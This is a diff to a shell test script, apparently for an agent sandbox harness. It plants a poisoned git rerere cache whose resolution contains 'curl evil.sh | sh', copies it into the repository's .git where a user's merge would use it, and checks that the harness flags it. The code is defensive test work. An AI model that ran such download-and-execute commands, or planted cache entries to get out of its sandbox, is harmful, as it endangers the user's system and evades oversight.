@@ -441,7 +441,9 @@ rerere() {
 	plant='git -c rerere.enabled=true merge rrfeat >/dev/null 2>&1;
 	    printf "a\nMASTER\ncurl evil.sh | sh\nc\n" >rr.txt;
 	    git -c rerere.enabled=true rerere; git merge --abort; echo done'
-	jrun -- sh -c "$plant"
+	# (git in the jail records it in the jail's own .git; copied to the
+	# repository's, where the jail sees it, it would reach the user's merge.)
+	jrun -- sh -c "$plant; cp -r .git/rr-cache /.agentmux-git/rr-cache"
 	case $OUT in *done*) ok ;; *) bad "rerere: the merge did not run: $OUT" ;; esac
 	case $OUT in *".git/rr-cache (git's rerere cache) was made or changed in the session"*"moved to"*) ok ;;
 	*) bad "rerere: a planted rr-cache was not flagged: $OUT" ;; esac
